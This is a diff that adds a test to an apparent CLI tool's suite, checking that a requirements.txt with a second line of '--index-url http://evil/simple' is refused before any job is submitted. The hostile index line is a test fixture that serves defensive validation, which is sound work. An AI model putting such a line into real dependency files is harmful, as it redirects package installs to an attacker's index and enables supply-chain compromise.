@@ -83,3 +83,17 @@ def test_dev_up_again_reports_what_is_already_running(stack):
     assert any("api already running" in line for line in lines)
     assert any("worker already running" in line for line in lines)
     assert any("CLI logged in" in line for line in lines)
+
+
+def test_a_requirements_file_reaching_outside_the_index_is_refused_before_submission(
+        rgrid, tmp_path):
+    write_script(tmp_path, "ok.py", "print('ok')\n")
+    (tmp_path / "requirements.txt").write_text("pandas==2.2.3\n--index-url http://evil/simple\n")
+    before = rgrid("list", "--json", "--limit", "500").json()
+
+    result = rgrid("run", "ok.py")
+
+    assert result.exit_code == 2
+    assert "requirements.txt, line 2: the pip option --index-url is not allowed." in result.stderr
+    assert "e.g. `pandas==2.2.3`" in result.stderr and "Traceback" not in result.stderr
+    assert rgrid("list", "--json", "--limit", "500").json() == before, "nothing submitted"
